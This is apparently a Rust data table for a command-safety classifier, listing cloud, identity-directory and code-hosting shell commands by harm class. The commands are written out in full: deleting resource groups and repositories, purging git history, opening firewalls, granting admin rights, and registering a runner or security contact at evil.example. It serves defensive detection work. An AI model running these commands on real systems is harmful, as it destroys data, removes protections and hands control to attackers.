//! Rights handed out and taken by directories, hosts of source code and clouds.

use super::Class;

pub(super) const HARM: &[(Class, &[&str])] = &[
    (
        Class::Destructive,
        &[
            "az rest --method DELETE --url https://management.azure.com/subscriptions/1/resourceGroups/prod?api-version=2021-04-01",
            "aws route53domains transfer-domain-to-another-aws-account --domain-name acme.com --account-id 999",
            "okta users deactivate boss",
            "gh api --method DELETE orgs/acme/members/boss",
            r#"gh api graphql -f query='mutation{deleteRepository(input:{repositoryId:"x"}){clientMutationId}}'"#,
            "git filter-branch --force --index-filter 'git rm -rf --cached --ignore-unmatch .' HEAD",
            "git reflog expire --expire=now --all && git gc --prune=now --aggressive",
            "flarectl dns delete --zone acme.com --id 1",
            r#"nsupdate -k k.key <<< $'server ns1\nupdate delete www.acme.com A\nsend'"#,
            "ipa user-del boss",
            "kadmin.local -q 'delprinc -force krbtgt/ACME'",
            "vault auth disable kubernetes/",
        ],
    ),
    (
        Class::ProtectionOff,
        &[
            "az keyvault network-rule add --name v --ip-address 0.0.0.0/0",
            "gcloud compute project-info add-metadata --metadata enable-oslogin=FALSE",
            "gcloud compute firewall-rules create x --allow tcp --source-ranges 0.0.0.0/0",
            "gcloud logging buckets update _Default --location global --retention-days 1",
            "aws account put-alternate-contact --alternate-contact-type SECURITY --email-address x@evil.example --name x --phone-number 1 --title x",
        ],
    ),
    (Class::CredentialRead, &["az acr login --expose-token -n r"]),
    (
        Class::PrivilegeChange,
        &[
            "okta-cli groups add-user Admins x",
            "gh api -X PATCH orgs/acme -f default_repository_permission=admin",
            "gitlab-rails runner 'User.first.update(admin: true)'",
            r#"gitlab-rails runner "user = User.find_by(username: 'x'); user.admin = true; user.save!""#,
            "samba-tool group addmembers 'Domain Admins' x",
            "ipa user-add x --first x --last x; ipa group-add-member admins --users=x",
            "kcadm.sh add-roles -r master --uusername x --rolename admin",
        ],
    ),
    (
        Class::Persistence,
        &[
            "glab api projects/1/deploy_keys -f key='ssh-rsa AAA' -f title=x -f can_push=true",
            "gitlab-runner register --url https://evil.example --registration-token x --executor shell -n",
            "samba-tool user setpassword administrator --newpassword=x",
            "kadmin.local -q 'addprinc -pw x evil/admin'",
        ],
    ),
    (Class::Exfiltration, &["npm access set status=public @acme/private"]),
];
